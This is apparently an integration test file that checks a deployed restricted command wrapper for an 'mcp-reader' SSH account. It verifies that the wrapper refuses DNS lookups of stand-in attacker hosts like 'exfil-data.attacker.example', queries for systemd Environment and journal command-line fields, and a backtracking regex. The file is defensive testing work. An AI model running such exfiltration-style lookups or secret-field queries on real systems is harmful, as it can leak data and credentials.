"""Issue 9 on a deployed target, over real ssh as mcp-reader: the role renders
network.destinations from the inventory and the site's variable, and the deployed wrapper
reaches or looks up only those; field selection and client patterns are judged there the
same way as in the local tests."""
from __future__ import annotations

import json

import pytest

pytest_plugins = ["integration.deployed"]
pytestmark = pytest.mark.lab


def refusal(out) -> dict:
    assert out.returncode == 126, (out.returncode, out.stdout, out.stderr)
    return json.loads(out.stderr.strip().splitlines()[-1])["mcp_refusal"]


def test_destinations_outside_the_rendered_list_are_refused(deployed):
    for command in ("getent hosts exfil-data.attacker.example", "dig +short x.attacker.example",
                    "ping -c 1 -W 1 203.0.113.9", "host data.attacker.example",
                    "getent ahosts 198.51.100.7"):
        got = refusal(deployed.ssh_reader(command))
        assert got["reason"] == "destination_not_allowed", (command, got)
    got = refusal(deployed.ssh_reader("dig @127.0.0.1 localhost"))
    assert got["reason"] == "bad_value" and "cannot be chosen" in got["detail"]


def test_destinations_in_the_rendered_list_are_allowed(deployed):
    other = sorted(deployed.hosts)[1]
    # an inventory host's name, loopback, the site's name and prefix: they run (the lab's
    # resolver may not know the names; any answer but a refusal will do)
    for command in (f"getent hosts {other}", "getent ahosts localhost", "dig +short db.lab.example",
                    "ping -c 1 -W 1 127.0.0.1", "dig -x 192.0.2.10 +time=1 +tries=1",
                    f"getent hosts {deployed.host.upper()}."):
        out = deployed.ssh_reader(command)
        assert out.returncode != 126, (command, out.stderr)
    assert "127.0.0.1" in deployed.ssh_reader("getent ahosts localhost").stdout


def test_field_selection_and_patterns_on_the_target(deployed):
    shown = deployed.ssh_reader("systemctl show nginx")
    assert shown.returncode == 0 and "ActiveState=active" in shown.stdout
    assert "Environment=" not in shown.stdout and "ExecStart=" not in shown.stdout
    assert refusal(deployed.ssh_reader("systemctl show -p Environment nginx"))["reason"] == "bad_value"
    assert refusal(deployed.ssh_reader("journalctl -o json -n 1"))["reason"] == "option_required"
    out = deployed.ssh_reader("journalctl -o json --output-fields=MESSAGE,PRIORITY -n 3 -u ssh")
    assert out.returncode == 0, out.stderr
    for line in out.stdout.splitlines():
        assert set(json.loads(line)) <= {"MESSAGE", "PRIORITY", "__CURSOR", "__REALTIME_TIMESTAMP",
                                         "__MONOTONIC_TIMESTAMP", "_BOOT_ID", "__SEQNUM",
                                         "__SEQNUM_ID"}
    assert refusal(deployed.ssh_reader("journalctl -F _CMDLINE"))["reason"] == "bad_value"
    assert refusal(deployed.ssh_reader("grep -E '(.{1,1000}){1,10}' /etc/hostname"))["reason"] \
        == "bad_value"
    assert deployed.ssh_reader("grep -cE '[a-z]{1,3}' /etc/hostname").returncode == 0
